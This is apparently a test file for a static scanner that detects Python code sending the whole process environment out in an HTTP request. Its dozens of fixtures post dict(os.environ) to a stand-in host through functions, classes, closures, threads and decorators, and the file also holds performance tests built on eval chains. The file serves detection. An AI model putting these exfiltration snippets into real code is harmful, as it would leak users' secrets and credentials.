import { beforeAll, describe, expect, test } from "vitest";
import { type CountingScanner, loadCountingScanner } from "./engine-scan.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

const IMPORTS = "import os, requests, threading, functools\nfrom dataclasses import dataclass\n";
const SECRETS = "dict(os.environ)";
const SEND = "requests.post(url, json=data)";

/** Each sends the environment by way of functions. */
const WAYS = {
  "a parameter": `def send(data):\n  ${SEND}\nsend(${SECRETS})`,
  "a keyword": `def send(url, data=None):\n  ${SEND}\nsend(url, data=${SECRETS})`,
  "unpacked arguments": `def send(url, data):\n  ${SEND}\nargs = [url, ${SECRETS}]\nsend(*args)`,
  "an unpacked mapping": `def send(url, data):\n  ${SEND}\nsend(**{"url": url, "data": ${SECRETS}})`,
  "a rest parameter": `def send(*parts):\n  requests.post(parts[0], json=parts[1])\nsend(url, ${SECRETS})`,
  "a result": `def read():\n  return ${SECRETS}\nrequests.post(url, json=read())`,
  "one result of several": `def read():\n  if x:\n    return {}\n  return ${SECRETS}\nrequests.post(url, json=read())`,
  "three functions": `def a():\n  return ${SECRETS}\ndef b():\n  return a()\ndef send(data):\n  ${SEND}\nsend(b())`,
  "functions in the other order": `def main():\n  send(read())\ndef send(data):\n  ${SEND}\ndef read():\n  return ${SECRETS}\nmain()`,
  "a main that nobody calls": `def main():\n  send(read())\ndef send(data):\n  ${SEND}\ndef read():\n  return ${SECRETS}`,
  "a field": `class A:\n  def __init__(self):\n    self.data = ${SECRETS}\n  def send(self):\n    requests.post(url, json=self.data)`,
  "a field that is set further down": `class A:\n  def send(self):\n    requests.post(url, json=self.data)\n  def __init__(self):\n    self.data = ${SECRETS}`,
  "a field of an argument": `class A:\n  def __init__(self, data):\n    self.data = data\n  def send(self):\n    requests.post(url, json=self.data)\nA(${SECRETS}).send()`,
  "a method": `class A:\n  def send(self, data):\n    ${SEND}\nA().send(${SECRETS})`,
  "a static method": `class A:\n  @staticmethod\n  def send(data):\n    ${SEND}\nA.send(${SECRETS})`,
  "a class method": `class A:\n  @classmethod\n  def send(cls, data):\n    ${SEND}\nA.send(${SECRETS})`,
  "an inherited method": `class B:\n  def send(self, data):\n    ${SEND}\nclass A(B):\n  pass\nA().send(${SECRETS})`,
  "a property": `class A:\n  @property\n  def data(self):\n    return ${SECRETS}\nrequests.post(url, json=A().data)`,
  "a dataclass": `@dataclass\nclass A:\n  data: dict\nrequests.post(url, json=A(data=${SECRETS}).data)`,
  "an object that is called": `class A:\n  def __call__(self, data):\n    ${SEND}\nA()(${SECRETS})`,
  "a session of a derived class": `class A(requests.Session):\n  def send(self, data):\n    self.post(url, json=data)\nA().send(${SECRETS})`,
  "a closure": `def make():\n  data = ${SECRETS}\n  def send():\n    ${SEND}\n  return send\nmake()()`,
  "a decorator": `def logged(f):\n  def inner(*a, **k):\n    return f(*a, **k)\n  return inner\n@logged\ndef send(data):\n  ${SEND}\nsend(${SECRETS})`,
  "a thread": `def send(data):\n  ${SEND}\nthreading.Thread(target=send, args=(${SECRETS},)).start()`,
  "a pool": `def send(data):\n  ${SEND}\npool.submit(send, ${SECRETS})`,
  "a callback": `def send(data):\n  ${SEND}\ndef on(f):\n  f(${SECRETS})\non(send)`,
  "a callback that sees more than its caller": `def on(f):\n  f()\ndef main():\n  data = ${SECRETS}\n  def send():\n    ${SEND}\n  on(send)\nmain()`,
  "a partial": `def send(url, data):\n  ${SEND}\nfunctools.partial(send, url)(${SECRETS})`,
  "a partial of a library's function": `post = functools.partial(requests.post, url)\npost(json=${SECRETS})`,
  "a lambda": `send = lambda data: ${SEND}\nsend(${SECRETS})`,
  "a generator": `def read():\n  yield ${SECRETS}\nfor data in read():\n  ${SEND}`,
  "an asynchronous function": `async def read():\n  return ${SECRETS}\nasync def main():\n  data = await read()\n  ${SEND}`,
  "a function that calls itself": `def send(data, n):\n  if n:\n    send(data, n - 1)\n  else:\n    ${SEND}\nsend(${SECRETS}, 3)`,
};

describe("the environment is followed into a request through", () => {
  test.each(Object.entries(WAYS))("%s", (_, code) => {
    expect(scanner.rules(`${IMPORTS}url = "https://example.com"\n${code}\n`)).toContain("environment-sent");
  });
});

describe("the environment is not sent when", () => {
  test.each([
    ["another call hands it over", `def f(x):\n  return x\nf(${SECRETS})\nrequests.post(url, json=f(1))`],
    ["the function makes something else of it", `def n(x):\n  return len(x)\nrequests.post(url, json=n(${SECRETS}))`],
    [
      "a variable of the caller has the same name",
      `def send():\n  ${SEND}\ndef main():\n  data = ${SECRETS}\n  send()\nmain()`,
    ],
    [
      "another class has the field",
      `class A:\n  def __init__(self):\n    self.data = ${SECRETS}\nclass B:\n  def send(self):\n    requests.post(url, json=self.data)`,
    ],
  ])("%s", (_, code) => {
    expect(scanner.rules(`${IMPORTS}url = "https://example.com"\ndata = None\n${code}\n`)).not.toContain(
      "environment-sent",
    );
  });
});

describe("steps grow with the length and not with its square for", () => {
  test.each([
    ["functions that call the one before", (i: number) => `def f${i}(x):\n  return f${i - 1}(x + x)\n`],
    [
      "functions that call the one before twice",
      (i: number) => `def f${i}(x):\n  return f${i - 1}(x + "a") + f${i - 1}(x)\n`,
    ],
    ["calls with other constants", (i: number) => `f0("${i}")\n`],
    ["results that are kept", (i: number) => `x${i} = f0("${i}")\n`],
    ["methods that set fields", (i: number) => `class A${i}:\n  def f(self, x):\n    self.x = x\n    f0(eval)\n`],
    [
      "functions inside functions",
      (i: number) => `def f${i}(x):\n  def g():\n    return x\n  return g\nf${i}(eval)()(f${i})\n`,
    ],
    ["decorators", (i: number) => `@f0\ndef f${i}(x):\n  return eval(x)\nf${i}("${i}")\n`],
    ["lambdas", (i: number) => `f${i} = lambda x: f${i - 1}(x, eval)\nf${i}(exec)\n`],
  ])("%s", (_, line) => {
    const code = (count: number) =>
      `def f0(x):\n  eval(x)\n  return x\n${Array.from({ length: count }, (_, i) => line(i + 1)).join("")}`;
    expect(scanner.steps(code(8000)) / scanner.steps(code(4000))).toBeLessThan(2 * 1.25);
  });

  test("a function whose calls branch again and again ends", () => {
    const calls = Array.from(
      { length: 40 },
      (_, i) => `def f${i + 1}(x):\n  f${i}(x + "a")\n  f${i}(x + "b")\n  return eval(x)\n`,
    );
    expect(scanner.steps(`def f0(x):\n  eval(x)\n${calls.join("")}f40("c")\n`)).toBeLessThan(2 ** 22);
  });
});
